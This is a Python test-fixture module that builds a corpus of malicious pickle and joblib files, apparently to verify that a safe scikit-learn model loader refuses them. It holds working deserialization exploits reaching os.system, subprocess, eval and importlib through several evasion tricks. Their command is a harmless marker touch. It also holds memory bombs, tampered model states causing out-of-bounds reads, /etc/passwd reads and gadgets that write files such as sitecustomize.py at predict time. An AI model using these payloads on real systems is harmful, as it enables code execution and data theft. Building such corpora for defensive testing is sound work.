"""Our own attack corpus, one or more files per attack class of research/safe-loading.md.

``marker_payloads(mark)`` are live: loading them with plain pickle / joblib (and, for predict-time
gadgets, calling predict) creates ``mark/ran_<name>``; a test proves that with the naive loaders in a
subprocess, so the refusal tests are testing real attacks. ``inert_payloads()`` are bombs and tricks that
leave no marker (huge allocations, deep nesting, tampered native state); they must be refused by name.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
from pathlib import Path

import joblib
import numpy as np

_BIG = b"\x8a\x05\x00\x00\x00\x80\x00"  # LONG1 2**31


def _g(module: str, name: str) -> bytes:  # GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _s(value: str) -> bytes:  # BINUNICODE
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


class Reduce:
    """Pickles as a call of func(*args)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def marker_payloads(mark: Path) -> dict[str, bytes]:
    """Files that run ``touch mark/ran_<name>`` when loaded by a naive loader (or at predict time)."""

    def cmd(name: str) -> str:
        return f"touch {mark}/ran_{name}"

    p: dict[str, bytes] = {}
    p["p01_os_system_proto0"] = b"cos\nsystem\n(V" + cmd("p01_os_system_proto0").encode() + b"\ntR."
    p["p03_py2_alias_commands"] = (
        b"\x80\x02" + _g("commands", "getoutput") + _s(cmd("p03_py2_alias_commands")) + b"\x85R."
    )
    # p07: the module name is computed at load time (rot13 of 'bf' is 'os') and routed through the memo
    p["p07_computed_stack_global"] = (
        b"\x80\x04"
        + _g("_codecs", "decode")
        + _s("bf")
        + _s("rot13")
        + b"\x86R\x94"
        + _s("system")
        + b"\x93"
        + _s(cmd("p07_computed_stack_global"))
        + b"\x85R."
    )
    # p08: names stored in the memo, fetched back for STACK_GLOBAL
    p["p08_memo_stack_global"] = (
        b"\x80\x04"
        + _s("os")
        + b"q\x07"
        + _s("system")
        + b"q\x08"
        + b"0"
        + b"0"
        + b"h\x07h\x08\x93"
        + _s(cmd("p08_memo_stack_global"))
        + b"\x85R."
    )
    inner = pickle.dumps(Reduce(os.system, cmd("p09_nested_pickle_loads")), protocol=2)
    p["p09_nested_pickle_loads"] = pickle.dumps(Reduce(pickle.loads, inner), protocol=4)
    # p10: an ordinary-looking joblib file whose payload sits after raw array bytes
    buf = io.BytesIO()
    joblib.dump({"weights": np.arange(64.0), "hook": Reduce(os.system, cmd("p10_joblib_after_array"))}, buf)
    p["p10_joblib_after_array"] = buf.getvalue()
    buf = io.BytesIO()
    joblib.dump({"hook": Reduce(os.system, cmd("p11_joblib_lzma"))}, buf, compress=("lzma", 3))
    p["p11_joblib_lzma"] = buf.getvalue()
    p["p15a_dotted_name"] = (
        b"\x80\x04" + _s("sklearn") + _s("os.system") + b"\x93" + _s(cmd("p15a_dotted_name")) + b"\x85R."
    )
    p["p15b_reexported_import_module"] = (
        b"\x80\x02"
        + _g("builtins", "getattr")
        + _g("sklearn.utils.discovery", "import_module")
        + _s("os")
        + b"\x85R"
        + _s("system")
        + b"\x86R"
        + _s(cmd("p15b_reexported_import_module"))
        + b"\x85R."
    )
    p["p_inst_opcode"] = b"(V" + cmd("p_inst_opcode").encode() + b"\nios\nsystem\n."
    p["p_obj_opcode"] = b"\x80\x02(" + _g("os", "system") + _s(cmd("p_obj_opcode")) + b"o."
    popen = Reduce(__import__("subprocess").Popen, ["sh", "-c", cmd("p_subprocess_popen")])
    p["p_subprocess_popen"] = pickle.dumps(popen, protocol=3)
    code = f"__import__('os').system('{cmd('p_builtins_eval')}')"
    p["p_builtins_eval"] = b"\x80\x02" + _g("builtins", "eval") + _s(code) + b"\x85R."
    p["p_importlib_getattr"] = (
        b"\x80\x02"
        + _g("builtins", "getattr")
        + _g("importlib", "import_module")
        + _s("os")
        + b"\x85R"
        + _s("system")
        + b"\x86R"
        + _s(cmd("p_importlib_getattr"))
        + b"\x85R."
    )
    p["p_pkgutil_resolve_name"] = (
        b"\x80\x04"
        + _g("pkgutil", "resolve_name")
        + _s("os:system")
        + b"\x85R"
        + _s(cmd("p_pkgutil_resolve_name"))
        + b"\x85R."
    )
    import importlib
    import operator

    caller = Reduce(
        operator.methodcaller("system", cmd("p_operator_methodcaller")), Reduce(importlib.import_module, "os")
    )
    p["p_operator_methodcaller"] = pickle.dumps(caller, protocol=4)
    # p32: a predict-time gadget: FunctionTransformer calling joblib.dump writes a file when used
    from sklearn.preprocessing import FunctionTransformer

    gadget = FunctionTransformer(func=joblib.dump, kw_args={"filename": f"{mark}/ran_p32_function_transformer_dump"})
    gadget.fit(np.zeros((2, 1)))
    p["p32_function_transformer_dump"] = pickle.dumps(gadget, protocol=4)
    p["p27_ext_opcode"] = (
        b"\x80\x02"
        + _g("copyreg", "add_extension")
        + _s("posix")
        + _s("system")
        + b"K\xf0\x87R0"
        + b"\x82\xf0"
        + _s(cmd("p27_ext_opcode"))
        + b"\x85R."
    )
    return p


def _tampered_tree_model() -> bytes:
    from sklearn.tree import DecisionTreeRegressor

    model = DecisionTreeRegressor(max_depth=3, random_state=0).fit(np.arange(40.0).reshape(-1, 2), np.arange(20.0))
    state = model.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = 2**30
    state["nodes"] = nodes
    model.tree_.__setstate__(state)
    return pickle.dumps(model, protocol=4)


def _newobj_bomb_in_logreg() -> bytes:
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
    raw = pickle.dumps(model, protocol=2)
    bomb = _g("numpy", "ndarray") + _BIG + b"\x85" + _s("u1") + b"\x86\x81" + b"0"
    return raw[:2] + bomb + raw[2:]


def _class_as_value() -> bytes:
    import xgboost
    from sklearn.preprocessing import FunctionTransformer

    gadget = FunctionTransformer(func=xgboost.core.Booster, kw_args={"model_file": "/etc/passwd"})
    return pickle.dumps(gadget, protocol=4)


def _object_array_with_dict() -> bytes:
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "ok", {"nested": "object"}
    return pickle.dumps({"names": arr}, protocol=4)


def _deep_nesting(depth: int = 100_000) -> bytes:
    return b"\x80\x02" + b"N" + b"\x85" * depth + b"."


def inert_payloads() -> dict[str, tuple[bytes, str]]:
    """(bytes, text the refusal must mention) for attacks that leave no marker."""
    build_on_class = (
        b"\x80\x02"
        + _g("sklearn._loss.loss", "HalfBinomialLoss")
        + b"N}"
        + _s("fit_intercept_only")
        + b"N"
        + b"s\x86b."
    )
    return {
        "p25a_bytearray_bomb": (b"\x80\x02" + _g("builtins", "bytearray") + _BIG + b"\x85R.", "bytearray"),
        "p25b_reconstruct_bomb": (
            b"\x80\x02"
            + _g("numpy.core.multiarray", "_reconstruct")
            + _g("numpy", "ndarray")
            + _BIG
            + b"\x85"
            + _s("b")
            + b"\x87R.",
            "_reconstruct",
        ),
        "p16_tampered_tree": (_tampered_tree_model(), "out of bounds"),
        "p17_build_on_class": (build_on_class, "BUILD on class"),
        "p18_numpy_load": (b"\x80\x02" + _g("numpy", "load") + _s("/etc/passwd") + b"\x85R.", "numpy.load"),
        "p20_pandas_read_pickle": (
            b"\x80\x02" + _g("pandas", "read_pickle") + _s("/etc/passwd") + b"\x85R.",
            "read_pickle",
        ),
        "p26_deep_nesting": (_deep_nesting(), "nested deeper"),
        "p33_object_scalar": (
            b"\x80\x02"
            + _g("numpy._core.multiarray", "scalar")
            + _g("numpy", "dtype")
            + _s("O8")
            + b"\x89\x88\x87R"
            + b"C\x08AAAAAAAA\x86R.",
            "object dtype",
        ),
        "p38_newobj_bomb_in_logreg": (_newobj_bomb_in_logreg(), "with arguments"),
        "p39_class_as_value": (_class_as_value(), "xgboost.core.Booster"),
        "object_array_with_dict": (_object_array_with_dict(), "object ndarray"),
        "p37_cpickle_alias": (b"\x80\x02" + _g("cPickle", "loads") + _s("x") + b"\x85R.", "pickle.loads"),
        "p15c_module_attribute": (b"\x80\x02" + _g("sklearn.datasets._base", "os") + b".", "sklearn.datasets._base.os"),
        "legacy_zf_container": (b"ZF0x00000010" + b"\x78\x9c" + b"\x00" * 16, "ZF"),
        "joblib_numpy_pickle_compat": (
            b"\x80\x02"
            + _g("joblib.numpy_pickle_compat", "NDArrayWrapper")
            + b")\x81}"
            + _s("filename")
            + _s("/etc/passwd")
            + b"sb.",
            "numpy_pickle_compat",
        ),
    }


# ---------------------------------------------------------------------------------------------------
# Files built only from allowlisted classes whose *state* makes predict act (issue 14). Each is a real
# fitted model, tampered the way an attacker would, then pickled; tests/core/test_allowlist_state.py shows
# what a naive loader does with it and that the safe loader refuses it by class, attribute and value.


def stacking_tofile(code: bytes) -> object:
    """A StackingRegressor whose stack_method_ calls ndarray.tofile on a stored array: predict(path) writes code."""
    from sklearn.ensemble import StackingRegressor
    from sklearn.linear_model import LinearRegression, Ridge

    X = np.arange(40.0).reshape(-1, 2)
    model = StackingRegressor([("lr", LinearRegression())], final_estimator=Ridge()).fit(X, X[:, 0])
    model.estimators_ = [np.array(code)]  # a 0-d bytes array: tofile writes exactly these bytes
    model.stack_method_ = ["tofile"]
    return model


def text_reader(kind: str = "CountVectorizer", mode: str = "filename") -> object:
    """A stock text vectorizer told to read the files its input names (the table's values)."""
    from sklearn.feature_extraction import text

    vectorizer = getattr(text, kind)(input=mode)
    if kind != "HashingVectorizer":
        vectorizer.set_params(input="content").fit(["password secret token admin root"])
        vectorizer.set_params(input=mode)
    return vectorizer


def n_jobs_fan_out(n_jobs: int = 4, *, via_partial: bool = False) -> object:
    """An allowlisted function called with n_jobs at transform: joblib starts n_jobs processes."""
    import functools

    from sklearn.feature_selection import mutual_info_regression
    from sklearn.preprocessing import FunctionTransformer

    y = np.arange(30.0)
    if via_partial:
        return FunctionTransformer(func=functools.partial(mutual_info_regression, y=y, n_jobs=n_jobs))
    return FunctionTransformer(func=mutual_info_regression, kw_args={"y": y, "n_jobs": n_jobs})


def dtype_rebuilt_after_use() -> bytes:
    """An int64 array whose dtype gets BUILD again after the array was made: the int64s become object pointers."""
    import pickletools

    raw = pickle.dumps(np.array([0x4141414141, 0x4242424242], dtype=np.int64), protocol=2)
    ops = list(pickletools.genops(raw))
    start = next(i for i, (op, arg, _) in enumerate(ops) if op.name == "GLOBAL" and arg == "numpy dtype")
    reduce_at = next(i for i in range(start, len(ops)) if ops[i][0].name == "REDUCE")
    memo = ops[reduce_at + 1][1]  # the BINPUT that stores the dtype
    object_state = b"(K\x03" + _s("|") + b"NNNJ\x08\x00\x00\x00J\x08\x00\x00\x00K\x3ft"  # flags 0x3f: objects
    return raw[:-1] + b"h" + bytes([memo]) + object_state + b"b0."


def hgb_feature_out_of_bounds() -> object:
    """A HistGradientBoostingRegressor whose root split reads feature 2**30 of a 3-feature row."""
    from sklearn.ensemble import HistGradientBoostingRegressor

    X = np.random.default_rng(0).normal(size=(60, 3))
    model = HistGradientBoostingRegressor(max_iter=2, random_state=0).fit(X, X[:, 0])
    nodes = model._predictors[0][0].nodes
    nodes["feature_idx"][0] = 2**30
    return model


def method_name_gadgets() -> dict[str, tuple[object, str]]:
    """Other meta-estimators and scorers that look up a method by a name their state holds."""
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.ensemble import StackingClassifier
    from sklearn.feature_selection import f_regression
    from sklearn.gaussian_process.kernels import ConstantKernel
    from sklearn.linear_model import LogisticRegression
    from sklearn.metrics import make_scorer
    from sklearn.model_selection import FixedThresholdClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    X, y = np.arange(40.0).reshape(-1, 2), np.arange(20) % 2
    fixed = FixedThresholdClassifier(LogisticRegression()).fit(X, y)
    fixed.response_method = "tofile"
    calibrated = CalibratedClassifierCV(LogisticRegression(), cv=2).fit(X, y)
    calibrated.method = "tofile"
    calibrated.calibrated_classifiers_[0].method = "dump"
    stacking = StackingClassifier([("lr", LogisticRegression())]).fit(X, y)
    stacking.stack_method_ = ["predict", "dump"]
    scorer = make_scorer(f_regression)
    scorer._response_method = ("predict", "tofile")
    scorer_chain = make_pipeline(
        FunctionTransformer(func=ConstantKernel(constant_value=np.bytes_(b"code"))),
        FunctionTransformer(func=scorer, kw_args={"X": "sitecustomize.py", "y_true": None}),
    )
    shadow = LogisticRegression().fit(X, y)
    shadow.predict = ConstantKernel()
    return {
        "fixed_threshold": (fixed, "FixedThresholdClassifier.response_method='tofile'"),
        "calibrated": (calibrated, "CalibratedClassifierCV.method='tofile'"),
        "calibrated_inner": (calibrated, "_CalibratedClassifier.method='dump'"),
        "stacking_list": (stacking, "StackingClassifier.stack_method_=['predict', 'dump']"),
        "scorer_response_method": (scorer_chain, "_Scorer._response_method=('predict', 'tofile')"),
        "kernel_as_func": (scorer_chain, "FunctionTransformer.func=sklearn.gaussian_process.kernels.ConstantKernel"),
        "scorer_as_func": (scorer_chain, "FunctionTransformer.func=sklearn.metrics._scorer._Scorer"),
        "method_shadowed": (shadow, "LogisticRegression.predict (instance state replacing a method)"),
    }
